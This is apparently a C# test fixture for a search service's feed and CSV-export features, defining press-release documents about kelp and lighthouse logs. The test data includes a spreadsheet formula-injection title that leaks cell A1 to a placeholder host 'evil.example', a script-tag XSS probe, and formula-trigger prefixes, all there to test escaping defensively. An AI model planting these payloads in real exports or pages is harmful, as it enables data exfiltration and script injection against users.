using System.Globalization;
using SearchService.Core.Documents;
using SearchService.Core.Tests.TestSupport;

namespace SearchService.Api.Tests.FollowAndExport;

/// <summary>
/// Documents that a feed or a file must carry unharmed: titles that a spreadsheet would run as formulas, markup and
/// ampersands that Atom must escape, characters XML cannot hold, accents; five "kelp" releases on distinct dates for
/// order; and 1,200 "lighthouse" logs, so that an export spans several of its 500-hit pages without ../shared.
/// </summary>
internal static class FollowDocuments
{
    public const string FormulaTitle = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click, here\")";
    public const string Lighthouse = "lighthouse";
    public const int LighthouseLogs = 1200;

    public static readonly string[] FormulaTitles = [FormulaTitle, "+44 kelp helpline opens", "-10% tariff on kelp", "@kelp minister replies"];

    public static IReadOnlyList<Document> All { get; } =
    [
        Kelp("kelp-formula", FormulaTitle, "2025-05-01", "Department for Environment, Food & Rural Affairs",
            "Kelp farmers & fishers met; the spreadsheet said <b>bold</b> things about kelp."),
        Kelp("kelp-plus", FormulaTitles[1], "2025-05-02", "Department for Business and Trade", "A helpline for kelp growers, \"free\" to call."),
        Kelp("kelp-minus", FormulaTitles[2], "2025-05-03", "HM Treasury", "The kelp tariff falls by ten per cent,\r\nfrom June."),
        Kelp("kelp-at", FormulaTitles[3], "2025-05-04", null, "The minister answered questions on kelp."),
        Kelp("kelp-hostile", "Kelp & chips <script>alert(1)</script> \u0001bell\u0007 \uD800 Sébastien à Paris", "2025-05-05", "Cabinet Office",
            "Kelp, chips & <i>markup</i> in a release with a control character \u0002 in it."),
        .. Enumerable.Range(1, LighthouseLogs).Select(i => new PressReleaseBuilder($"lighthouse-{i:D4}", $"Lighthouse keeper log {i}")
            .WithDepartment(i % 2 == 0 ? "Maritime and Coastguard Agency" : "Department for Transport")
            .WithDate(new DateOnly(2020, 1, 1).AddDays(i).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture))
            .WithParagraph($"The lighthouse lamp was trimmed at dusk on night {i}.").Build()),
    ];

    private static Document Kelp(string id, string title, string date, string? department, string text)
    {
        var builder = new PressReleaseBuilder(id, title).WithDate(date).WithParagraph(text).WithParagraph("Kelp is a seaweed grown off the coast.");
        return (department is null ? builder : builder.WithDepartment(department)).Build();
    }
}
